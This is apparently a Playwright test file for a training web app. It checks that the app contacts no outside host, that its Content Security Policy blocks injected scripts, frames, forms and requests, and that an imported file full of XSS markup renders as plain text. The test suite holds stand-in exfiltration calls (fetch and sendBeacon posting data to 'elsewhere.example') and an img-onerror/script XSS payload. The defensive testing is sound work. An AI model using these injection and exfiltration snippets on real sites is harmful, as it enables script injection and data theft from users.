import type { Page } from '@playwright/test';
import { test as unwatched } from '@playwright/test';
import { checksumOf } from '../../src/lib/storage/checksum.ts';
import { codedEvent, headerOf, saidEvent } from '../../src/lib/storage/specimens.ts';
import { test as onSite } from './site.ts';
import { expect, test } from './watched.ts';

const typingBox = (page: Page) => page.getByRole('textbox', { name: /^Message to/ });

onSite(
	'from the first page to the last nothing is asked of anybody but the app’s own host',
	async ({ context, page, site }) => {
		onSite.setTimeout(90_000);
		const asked: string[] = [];
		// Also what the service worker asks for.
		context.on('request', (request) => asked.push(request.url()));
		page.on('websocket', (socket) => asked.push(socket.url()));

		await page.goto('/');
		await page.getByRole('link', { name: 'Practise', exact: true }).click();
		await page.getByRole('link', { name: 'Begin The obituary of 1894' }).click();
		await page.getByRole('button', { name: 'Take over' }).click();
		await typingBox(page).fill('The index of https://elsewhere.example/obituaries has it. Anything else?');
		await typingBox(page).press('Enter');
		await expect(page.getByTestId('message').last()).toContainText('elsewhere.example');
		await page.getByRole('button', { name: 'End session' }).click();
		await page.getByRole('alertdialog').getByRole('button', { name: 'End session' }).click();
		await page.getByRole('radio', { name: 'Answered' }).check();
		await page.getByRole('button', { name: 'Save code' }).click();
		await page.getByRole('link', { name: 'Go through this one' }).click();
		await expect(page.getByTestId('replayed')).toBeVisible();
		await page.getByRole('link', { name: 'My attempts' }).click();
		await page.getByRole('link', { name: 'Your data' }).click();
		const [download] = await Promise.all([
			page.waitForEvent('download'),
			page.getByRole('button', { name: 'Save everything as a file' }).click()
		]);
		await page.getByLabel(/Take in a file/).setInputFiles(await download.path());
		await expect(page.getByText('1 known already')).toBeVisible();
		await page.getByRole('link', { name: 'Code', exact: true }).click();
		await page.getByRole('button', { name: 'Begin' }).click();
		await page.keyboard.press('1');
		await expect(page.getByTestId('verdict')).toBeVisible();
		await page.evaluate(() => navigator.serviceWorker.ready);

		expect(asked.length).toBeGreaterThan(100);
		const elsewhere = asked.filter((url) => !url.startsWith(site.url) && !url.startsWith('blob:'));
		expect(elsewhere).toEqual([]);
	}
);

/** What an attacker who got markup or a script into the page would try next, and what has to stop it. */
const ATTEMPTS = [
	[
		'a script in the page',
		'script-src-elem',
		() => {
			const script = document.createElement('script');
			script.textContent = 'window.hacked = true';
			document.body.append(script);
		}
	],
	[
		'a script from elsewhere',
		'script-src-elem',
		() => {
			const script = document.createElement('script');
			script.src = 'https://elsewhere.example/a.js';
			document.body.append(script);
		}
	],
	[
		'a handler in an attribute',
		'script-src-attr',
		() => {
			document.body.setAttribute('onclick', 'window.hacked = true');
			document.body.click();
		}
	],
	['code made from text', 'script-src', () => void window.setTimeout('window.hacked = true')],
	[
		'a style in the page',
		'style-src-elem',
		() => {
			const style = document.createElement('style');
			style.textContent = 'body { background: url(https://elsewhere.example/a.png) }';
			document.head.append(style);
		}
	],
	[
		'a picture from elsewhere',
		'img-src',
		() => {
			new Image().src = 'https://elsewhere.example/a.png';
		}
	],
	[
		'words sent elsewhere',
		'connect-src',
		() => {
			void fetch('https://elsewhere.example/', { method: 'POST', body: 'words' }).catch(() => undefined);
		}
	],
	[
		'a signal sent elsewhere',
		'connect-src',
		() => void navigator.sendBeacon('https://elsewhere.example/', 'words')
	],
	[
		'a page from elsewhere in a frame',
		'frame-src',
		() => {
			const frame = document.createElement('iframe');
			frame.src = 'https://elsewhere.example/';
			document.body.append(frame);
		}
	],
	[
		'a form sent elsewhere',
		'form-action',
		() => {
			const form = document.createElement('form');
			form.action = 'https://elsewhere.example/';
			document.body.append(form);
			form.submit();
		}
	]
] as const;

for (const [what, directive, attempt] of ATTEMPTS) {
	unwatched(`the page lets no one have ${what}`, async ({ page, baseURL }) => {
		const left: string[] = [];
		page.on('requestfailed', (request) => {
			// Every attempt is told of; one that the policy stopped has not left the browser.
			if (request.failure()?.errorText !== 'csp') left.push(request.url());
		});
		page.on('response', (response) => {
			if (!response.url().startsWith(baseURL!)) left.push(response.url());
		});
		await page.goto('/');
		await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
		await page.evaluate(() => {
			const stopped = new Promise((resolve) =>
				document.addEventListener(
					'securitypolicyviolation',
					({ effectiveDirective }) => resolve(effectiveDirective),
					{ once: true }
				)
			);
			Object.assign(window, { stopped });
		});
		await page.evaluate(attempt);
		expect(await page.evaluate(() => (window as unknown as { stopped: Promise<string> }).stopped)).toBe(
			directive
		);
		expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
		expect(left).toEqual([]);
	});
}

test.describe('a file made to do harm', () => {
	const HARM = `<img src=x onerror="window.hacked=true"><script>window.hacked=true</script>`;
	const at = (name: string) => `${name} ${HARM}`;

	/** A file as a good one would be, checksum and all, with markup wherever a text may stand. */
	async function harmfulFile(): Promise<string> {
		const { facts } = headerOf('any');
		const attempt = (id: string, scenario: string, isCoded: boolean) => ({
			...headerOf(id),
			scenario: { id: scenario, title: at('Title'), hash: at('hash') },
			facts: {
				...facts,
				library: { name: at('Library'), goodbye: at('Goodbye') },
				patron: { name: at('Patron'), email: null, works: true },
				fyi: { reason: at('Reason'), words: [at('word')] },
				noteWords: [at('word')],
				findings: { guide: { text: at('Finding'), meets: false } }
			},
			takeover: [
				{ who: 'patron', text: at('Question'), gives: {} },
				{ who: 'librarian', text: at('Answer'), gives: {} }
			],
			events: [
				{
					...saidEvent(1, at('Hello')),
					heard: [{ act: 'goodbye', start: 0, end: 9, confidence: 0.99, because: at('Because') }]
				},
				{ type: 'patron.said', text: at('Thanks'), gives: {}, does: [], seq: 2, at: 2000 },
				{ type: 'librarian.sent-finding', finding: 'guide', text: at('Finding'), seq: 3, at: 3000 },
				{ type: 'librarian.noted', text: at('Note'), seq: 4, at: 4000 },
				...(isCoded
					? [
							{ type: 'librarian.ended', seq: 5, at: 5000 },
							{ ...codedEvent(6), descriptive: [at('What')] }
						]
					: [])
			]
		});
		const content = {
			format: 'closing-time/archive',
			version: 2,
			attempts: [attempt('harm-coded', 'unknown', true), attempt('harm-open', 'obituary-of-1894', false)],
			drill: [],
			entries: [
				{
					id: 'harm-trainee',
					kind: 'trainee',
					about: 'harm-person',
					by: null,
					at: '2026-01-31T09:00:00.000Z',
					body: { name: at('Trainee'), library: at('Library') }
				}
			]
		};
		return JSON.stringify({ ...content, checksum: await checksumOf(content) });
	}

	test('is taken in as harmless text, and shown as it was written on every page', async ({ page }) => {
		await page.goto('/your-data');
		await page.getByLabel(/Take in a file/).setInputFiles({
			name: `${HARM.replaceAll('/', '')}.json`,
			mimeType: 'application/json',
			buffer: Buffer.from(await harmfulFile())
		});
		await expect(page.getByText('2 new chats, 1 entry.')).toBeVisible();
		await page.getByText('Only some chats').click();
		const seen: string[] = [];
		/** The page is one that shows the words, and has made nothing of them. */
		const look = async (where: string, text: string) => {
			await expect(page.getByText(at(text)).first(), where).toBeVisible();
			const made = await page.evaluate(
				() => document.querySelectorAll('img[src="x"], body script:not(#app script)').length
			);
			if (made > 0 || (await page.evaluate(() => 'hacked' in window))) seen.push(where);
		};
		await look('your data', 'Title');
		await page.goto('/attempts');
		await look('my attempts', 'Title');
		await page
			.getByRole('button', { name: /^Delete/ })
			.first()
			.click();
		await expect(page.getByRole('alertdialog')).toBeVisible();
		await look('the question before a deletion', 'Title');
		await page.goto('/');
		await look('home', 'Patron');
		await page.goto('/debrief?attempt=harm-coded');
		await look('debrief', 'Hello');
		await look('debrief, note', 'Note');
		await page.goto('/replay?attempt=harm-coded');
		await page.getByRole('slider').focus();
		await page.keyboard.press('End');
		await look('replay', 'Thanks');
		await page.goto('/chat?attempt=harm-open');
		await look('chat', 'Hello');
		await expect(page).toHaveTitle(new RegExp('^Patron <img'));
		expect(seen).toEqual([]);
	});
});
